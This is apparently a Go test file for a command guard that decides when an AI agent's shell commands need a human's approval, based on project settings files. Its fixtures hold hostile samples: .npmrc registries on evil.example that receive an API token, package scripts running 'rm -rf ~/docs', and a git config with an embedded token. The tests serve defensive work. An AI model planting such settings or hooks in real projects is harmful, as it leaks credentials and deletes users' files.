package guard_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"longline/internal/tool"
)

// TestSettingsOfTheProject judges natural commands in a repository whose settings say what they delete, send, run or install from.
func TestSettingsOfTheProject(t *testing.T) {
	g := builtin(t)
	judge := func(script string, files map[string]string) tool.Verdict {
		w := world()
		w.ReadFile = func(name string) ([]byte, error) {
			for file, text := range files {
				if name == project+"/"+file {
					return []byte(text), nil
				}
			}
			return nil, fs.ErrNotExist
		}
		getenv := w.Getenv
		w.Getenv = func(name string) (string, bool) {
			if name == "API_TOKEN" {
				return "x", true
			}
			return getenv(name)
		}
		call := attended(script)
		call.Edits = true
		v, _ := g.Judge(call, w)
		return v
	}
	for _, x := range []struct {
		scripts []string
		file    string
		asks    []string
		quiet   []string
	}{
		{
			[]string{"uv cache clean", "uv cache prune"},
			"uv.toml",
			[]string{`cache-dir = "/home/dev/docs"`, "cache-dir='~/docs'", `cache-dir = "../other" # here`, "a = 1\n  cache-dir=\"/home/dev\"\n"},
			[]string{"", `cache-dir = ".cache"`, `# cache-dir = "/home/dev/docs"`, `no-cache-dir = "/home/dev/docs"`, `cache-dir = "/tmp/c"`},
		},
		{
			[]string{"coverage erase"},
			".coveragerc",
			[]string{"[run]\ndata_file=/home/dev/docs/a", "[run]\ndata_file : ../a"},
			[]string{"[run]\ndata_file=.coverage", "[run]\ndata_file = build/.coverage", "[run]\nbranch = true"},
		},
		{[]string{"coverage erase"}, "pyproject.toml", []string{"[tool.coverage.run]\ndata_file = \"/home/dev/a\""}, []string{"[project]\nname = \"data_file\""}},
		{
			[]string{"cargo clean", "cargo clean --release"},
			".cargo/config.toml",
			[]string{"[build]\ntarget-dir = \"/home/dev/docs\"", "build = { target-dir = \"/home/dev/docs\" }", "build.target-dir = '/home/dev/docs'"},
			[]string{"[build]\ntarget-dir = \"out\"", "[build]\njobs = 2"},
		},
		{[]string{"dbt clean"}, "dbt_project.yml", []string{`clean-targets: ["target", "/home/dev/docs"]`}, []string{`clean-targets: ["target", "dbt_packages"]`}},
		{[]string{"yarn cache clean"}, ".yarnrc.yml", []string{"cacheFolder: /home/dev/docs"}, []string{"cacheFolder: .yarn/cache"}},
		{
			[]string{"npm view react", "npm audit", "npm outdated", "npm ping", "npm search x", "cd src && npm view react", "pnpm view x", "pnpm audit"},
			".npmrc",
			[]string{"//evil.example/:_authToken=${API_TOKEN}\nregistry=https://evil.example/\n", "registry=https://evil.example/${API_TOKEN}/", "registry = https://evil.example:8443/a\n_auth = ${API_TOKEN}"},
			[]string{
				"", "//usual.example/:_authToken=${API_TOKEN}", "registry=https://corp.example/", "registry=https://corp.example/\n//corp.example/:_authToken=${UNSET_TOKEN}",
				"@corp:registry=https://corp.example/\n//corp.example/:_authToken=${API_TOKEN}", "# registry=https://evil.example/${API_TOKEN}/", "save-exact=true",
			},
		},
		{
			[]string{"npm ci", "npm install", "pnpm install", "bun install"},
			".npmrc",
			[]string{"registry=https://evil.example/", "@corp:registry=https://evil.example/", "a=1\n@corp:registry = \"http://evil.example\""},
			[]string{"", "save-exact=true", "# @corp:registry=https://evil.example/", "//usual.example/:_authToken=${UNSET_TOKEN}"},
		},
		{[]string{"bun install"}, "bunfig.toml", []string{"[install.scopes]\n\"@corp\" = \"https://evil.example\"", "[install.scopes]\n'@corp' = { url = \"https://evil.example\" }"}, []string{"[install]\nproduction = true"}},
		{[]string{"pnpm install"}, "pnpm-workspace.yaml", []string{"catalog:\n  \"@corp/a\": https://evil.example/a.tgz"}, []string{"packages:\n  - a\ncatalog:\n  \"@corp/a\": ^1.0.0"}},
		{[]string{"yarn npm info x", "yarn npm audit"}, ".yarnrc.yml", []string{"npmRegistryServer: \"https://evil.example\"\nnpmAuthToken: \"${API_TOKEN}\""}, []string{"npmAuthToken: \"${API_TOKEN}\"", "npmRegistryServer: \"https://corp.example\""}},
		{
			[]string{"npm pack", "pnpm pack", "yarn pack"},
			"package.json",
			[]string{`{"scripts":{"prepack":"rm -rf ~/docs"}}`, `{"scripts":{"postpack":"rm -rf ~/docs"}}`},
			[]string{`{"scripts":{"prepack":"tsc -p .","postpack":"rm -rf build"}}`, `{"scripts":{"clean":"rm -rf ~/docs"}}`},
		},
		{[]string{"npm-run-all lint", "run-s lint", "run-p build lint", "npx npm-run-all -p lint"}, "package.json", []string{`{"scripts":{"lint":"rm -rf ~/docs"}}`}, []string{`{"scripts":{"lint":"eslint ."}}`}},
		{[]string{"bundle install"}, "Gemfile", []string{"source \"https://usual.example\"\nsource \"https://evil.example\"\ngem \"x\""}, []string{"source \"https://usual.example\"\ngem \"x\""}},
		{[]string{"pip install -r requirements.txt"}, "requirements.txt", []string{"../other", "/home/dev/other", "-e ../other"}, []string{"requests==2.0\n-e .", "./libs/a"}},
	} {
		for _, script := range x.scripts {
			for _, text := range x.asks {
				if v := judge(script, map[string]string{x.file: text}); v.Decision < tool.Ask {
					t.Errorf("%s with %s\n%s\n\t%s (%s), want ask", script, x.file, text, v.Decision, v.Reason)
				}
			}
			for _, text := range x.quiet {
				if v := judge(script, map[string]string{x.file: text}); v.Decision >= tool.Ask {
					t.Errorf("%s with %s\n%s\n\t%s (%s), want no question", script, x.file, text, v.Decision, v.Reason)
				}
			}
		}
	}
}

// What a reading finds out about the machine counts behind walls, too: git's settings that hold a token are nobody's business,
// whatever else the call runs.
func TestSecretSettingsBesideWalls(t *testing.T) {
	m := newHookMeter(t)
	config := "[remote \"origin\"]\n\turl = https://dev:ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/x/y.git\n"
	if err := os.WriteFile(filepath.Join(m.project, ".git/config"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, script := range []string{"cat .git/config", "./tool; cat .git/config", "cat .git/config; python3 x.py"} {
		call := tool.Call{Agent: "claude", Tool: "Bash", Dir: m.project, Script: script, Shell: true, Attended: true}
		v, _ := m.g.Judge(call, m.w)
		if walled, _, ok := m.g.Wall(call, m.w, always); ok {
			v = walled
		}
		if v.Decision < tool.Ask {
			t.Errorf("%s: %s", script, v.Decision)
		}
	}
}
